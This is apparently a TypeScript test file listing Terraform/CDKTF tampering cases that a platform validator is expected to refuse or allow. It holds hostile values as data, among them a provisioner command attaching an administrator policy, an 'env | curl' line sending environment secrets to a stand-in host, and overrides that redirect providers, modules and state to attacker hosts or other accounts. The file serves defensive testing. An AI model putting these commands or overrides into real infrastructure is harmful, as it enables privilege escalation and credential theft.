import * as fs from 'node:fs';
import * as path from 'node:path';
import { IamRole } from '@cdktf/provider-aws/lib/iam-role';
import { IamRolePolicyAttachment } from '@cdktf/provider-aws/lib/iam-role-policy-attachment';
import { AwsProvider } from '@cdktf/provider-aws/lib/provider';
import { SqsQueue } from '@cdktf/provider-aws/lib/sqs-queue';
import { KubernetesProvider } from '@cdktf/provider-kubernetes/lib/provider';
import { Aspects, LocalBackend, S3Backend, TerraformHclModule, TerraformStack } from 'cdktf';
import { list } from '../../../lib/core/json';
import type { Json } from '../../support/synth';
import { STACK_ID } from '../service-app';
import type { Output, ServiceApp } from '../service-app';
import { ADMINISTRATOR, attacksOn, ROLE, sibling } from './entry';

const { refused, safe, allowed } = attacksOn('terraform', 'terraform');
const beside = attacksOn('files', 'terraform');
const owner = attacksOn('ownership', 'owner');

const ATTACH = `aws iam attach-role-policy --role-name ${ROLE} --policy-arn ${ADMINISTRATOR}`;
const setting = (name: string, at: string, value: unknown) => refused(name, ({ stack }) => stack.addOverride(at, value));
/** Writes a file into the folder of the stack while the app is validated. */
const file = (name: string, text: string) => beside.refused(name, ({ stack, outdir }: ServiceApp) => {
  const folder = path.join(outdir, 'stacks', STACK_ID);
  const validate = () => { fs.mkdirSync(folder, { recursive: true }); fs.writeFileSync(path.join(folder, name), text); return []; };
  stack.node.addValidation({ validate });
});
/** Finds the file in the folder of an earlier synth, as CI may have put it there. */
const earlier = (name: string, text: string) => beside.refused(`${name}, before synth`, ({ outdir }) => {
  fs.mkdirSync(path.join(outdir, 'stacks', STACK_ID), { recursive: true });
  fs.writeFileSync(path.join(outdir, 'stacks', STACK_ID, name), text);
});

/** Whether every AWS provider puts the owner's tags on all that it makes. */
const tagged = ({ stacks }: Output) => list(stacks[STACK_ID].provider.aws).every((provider) =>
  JSON.stringify((provider as Json).default_tags).includes('"platform.acme.io/team":"payments"'));

export const TERRAFORM = [
  refused('a command on this machine', ({ service }) => service.namespace.addOverride('provisioner', [{ 'local-exec': { command: ATTACH } }])),
  refused('a command in a list of lists', ({ service }) => service.quota.addOverride('provisioner', [[{ 'local-exec': [{ command: ATTACH }] }]])),
  refused('a command by the prop of CDKTF', ({ stack }) => void new SqsQueue(stack, 'Q', { provisioners: [{ type: 'local-exec', command: ATTACH }] })),
  refused('a command when it is destroyed', ({ service }) => service.limits.addOverride('provisioner', [{ 'local-exec': { command: ATTACH, when: 'destroy' } }])),
  refused('a command on another machine', ({ service }) => service.quota.addOverride('provisioner', [{ 'remote-exec': { inline: [ATTACH] } }])),
  setting('a command of terraform_data', 'resource.terraform_data.x', { provisioner: [{ 'local-exec': { command: ATTACH } }] }),
  setting('a command of null_resource', 'resource.null_resource.x', { provisioner: { 'local-exec': { command: ATTACH } } }),
  setting('a program for data', 'data.external.x', { program: ['sh', '-c', 'env | curl -d @- evil'] }),
  setting('data by HTTP', 'data.http.x', { url: 'https://evil.example/${aws_iam_role.Infra_Role_F26D0E36.arn}' }),
  setting("another service's state as data", 'data.terraform_remote_state.x', { backend: 's3', config: { bucket: 'acme-terraform-state', key: 'ledger-worker-production/terraform.tfstate' } }),
  setting('a file of this machine', 'resource.local_file.x', { filename: '../ledger-worker-production/zz_override.tf.json', content: '{}' }),
  setting('a removal that destroys', 'removed', [{ from: 'aws_s3_bucket.Former', lifecycle: { destroy: true } }]),
  setting('a removal that says nothing of destruction', 'removed', { from: 'aws_s3_bucket.Former' }),
  setting('a command of a removal', 'removed', [{ from: 'aws_s3_bucket.Former', lifecycle: { destroy: false }, provisioner: [{ 'local-exec': { when: 'destroy', command: ATTACH } }] }]),
  allowed('a removal that destroys nothing', 'the resource is kept', ({ stack }) =>
    stack.addOverride('removed', [{ from: 'aws_s3_bucket.Former', lifecycle: { destroy: false } }])),
  setting("an import of another service's role", 'import', [{ to: 'aws_iam_role.Infra_Role_F26D0E36', id: 'ledger-worker-production' }]),
  setting('an import by an expression', 'import', [{ to: 'aws_iam_role.Infra_Role_F26D0E36', id: '${var.role}' }]),
  setting('a module beside it', 'module.x', { source: '../evil' }),
  setting('a module in a list', 'module.x', [{ source: 'git::https://evil.example/x.git' }]),
  refused('a module by the class of CDKTF', ({ stack }) => void new TerraformHclModule(stack, 'M', { source: 'terraform-aws-modules/iam/aws', version: '5.0.0' })),
  setting('another host of the cluster', 'provider.kubernetes.0.host', 'https://evil.example'),
  setting('another certificate authority of the cluster', 'provider.kubernetes.0.cluster_ca_certificate', '${base64decode("ZXZpbA==")}'),
  setting('the certificate authorities of this machine', 'provider.kubernetes.0.cluster_ca_certificate', null),
  setting('a certificate authority from a file', 'provider.kubernetes.0.cluster_ca_certificate', '${file("ca.pem")}'),
  setting('a login to another cluster', 'provider.kubernetes.0.exec.0.args', ['eks', 'get-token', '--cluster-name', 'evil']),
  setting('another login of the cluster', 'provider.kubernetes.0.exec', [{ api_version: 'v1', command: 'sh', args: ['-c', ATTACH] }]),
  setting('no verification of the cluster', 'provider.kubernetes.0.insecure', true),
  setting('a token in the file', 'provider.kubernetes.0.token', 'x'),
  setting('a login with more than it needs', 'provider.kubernetes.0.exec.0.env', { AWS_PROFILE: 'admin' }),
  setting('a proxy of AWS', 'provider.aws.0.https_proxy', 'http://evil.example'),
  setting('other accounts', 'provider.aws.0.allowed_account_ids', ['999999999999']),
  setting('accounts by an expression', 'provider.aws.0.allowed_account_ids', '${["999999999999"]}'),
  setting('any account', 'provider.aws.0.allowed_account_ids', null),
  setting('credentials of another account', 'provider.aws.0.assume_role', [{ role_arn: 'arn:aws:iam::999999999999:role/x' }]),
  setting('keys in the file', 'provider.aws.0.access_key', 'AKIAIOSFODNN7EXAMPLE'),
  setting('another endpoint of AWS', 'provider.aws.0.endpoints', [{ iam: 'https://evil.example' }]),
  setting('another source of a provider', 'terraform.required_providers.aws.source', 'evil/aws'),
  setting("another service's state", 'terraform.backend.s3.key', 'ledger-worker-production/terraform.tfstate'),
  setting('a backend of one command', 'terraform.backend', { http: { address: 'https://evil.example' } }),
  setting('a cloud besides the backend', 'terraform.cloud', { organization: 'evil' }),
  refused('accounts by the provider construct', ({ stack }) => {
    (stack.node.findChild('aws') as AwsProvider).addOverride('allowed_account_ids', ['999999999999']);
  }),
  refused('the host by the provider construct', ({ stack }) => {
    (stack.node.findChild('kubernetes') as KubernetesProvider).addOverride('host', 'https://evil.example');
  }),
  refused('a local backend', ({ stack }) => {
    stack.node.tryRemoveChild('backend');
    new LocalBackend(stack, { path: '/tmp/x' });
  }),
  refused("another service's state by a construct", ({ stack }) => {
    stack.node.tryRemoveChild('backend');
    new S3Backend(stack, { bucket: 'acme-terraform-state', key: 'ledger-worker-production/terraform.tfstate', region: 'eu-west-1' });
  }),
  refused('a provider with a role of another account', ({ stack }) => {
    const provider = new AwsProvider(stack, 'O', { alias: 'o', region: 'us-east-1', assumeRole: [{ roleArn: 'arn:aws:iam::999999999999:role/x' }] });
    new IamRole(stack, 'R', { provider, assumeRolePolicy: '{}' });
  }),
  refused('a provider of another cluster', ({ stack }) => void new KubernetesProvider(stack, 'O', { alias: 'o', host: 'https://evil.example' })),
  refused('a sibling in another account', ({ app }) => {
    const stack = new TerraformStack(app, 'raw');
    new AwsProvider(stack, 'aws', { region: 'eu-west-1' });
    new IamRolePolicyAttachment(stack, 'X', { role: ROLE, policyArn: ADMINISTRATOR });
  }),
  refused('validation is skipped', ({ app, service }) => {
    Object.assign(app, { skipValidation: true });
    service.defaultDeny.addOverride('spec.ingress', [{}]);
  }),
  refused('an aspect that adds a stack late', (it) => {
    Aspects.of(it.stack).add({ visit: (node) => {
      if (node !== it.stack || it.app.node.tryFindChild('payments-late')) return;
      new IamRolePolicyAttachment(sibling(it, 'payments', 'payments-late'), 'X', { role: ROLE, policyArn: ADMINISTRATOR });
    } });
  }),
  refused('a getter that answers once more', ({ stack, service }) => {
    let asked = 0;
    const policy = new IamRolePolicyAttachment(stack, 'X', { role: service.role.name, policyArn: 'arn:aws:iam::aws:policy/AWSXRayDaemonWriteAccess' });
    policy.toTerraform = () => ({ resource: { aws_iam_role_policy_attachment: { X: { role: ROLE, policy_arn: asked++ > 0 ? ADMINISTRATOR : 'arn:aws:iam::aws:policy/AWSXRayDaemonWriteAccess' } } } });
  }, ({ stacks }) => !JSON.stringify(stacks).includes(ADMINISTRATOR)),
  allowed('another region', 'environments are separated by accounts; a region is a choice, such as the one for certificates', ({ stack }) =>
    stack.addOverride('provider.aws.0.region', 'us-east-1')),
  allowed('an old Terraform', 'it does not support the lock file of the backend, and fails', ({ stack }) =>
    stack.addOverride('terraform.required_version', '>= 0.12')),
  safe('a newer Terraform', ({ stack }) => stack.addOverride('terraform.required_version', '>= 1.11.0'), ({ stacks }) => stacks[STACK_ID].terraform.required_version === '>= 1.11.0'),
  file('zz_override.tf.json', '{}'),
  file('extra.tf.json', '{}'),
  file('main.tf', ''),
  file('evil.auto.tfvars', 'x = 1'),
  file('terraform.tfvars.json', '{}'),
  file('override.tf', ''),
  file('extra.tofu', ''),
  earlier('zz_override.tf.json', '{}'),
  earlier('main.tf', 'resource "aws_iam_role" "x" {}'),
  owner.refused('default tags by an override', ({ stack }) => stack.addOverride('provider.aws.0.default_tags.0.tags', { 'platform.acme.io/team': 'ledger' })),
  owner.refused('another team on a queue of the own', ({ stack }) => void new SqsQueue(stack, 'Q', { tags: { 'platform.acme.io/team': 'ledger' } })),
  owner.refused('no cost centre on a queue of the own', ({ stack }) => stack.addOverride('resource.aws_sqs_queue.Q', { tags: { 'platform.acme.io/cost-center': '' } })),
  owner.refused('another environment on a queue, by an expression', ({ stack }) => stack.addOverride('resource.aws_sqs_queue.Q', { tags: '${{"platform.acme.io/env" = "staging"}}' })),
  owner.refused('another team on settings', ({ stack }) => stack.addOverride('resource.kubernetes_config_map_v1.C', {
    metadata: { name: 'c', namespace: 'payment-service-production', labels: { 'platform.acme.io/team': 'ledger' } },
  })),
  owner.refused('a provider that tags nothing', ({ stack }) => void new AwsProvider(stack, 'O', { alias: 'o' }).addOverride('default_tags', []), tagged),
  owner.refused('a provider whose tags are taken away', ({ stack }) => void new AwsProvider(stack, 'O', { alias: 'o' }).addOverride('default_tags', null)),
];
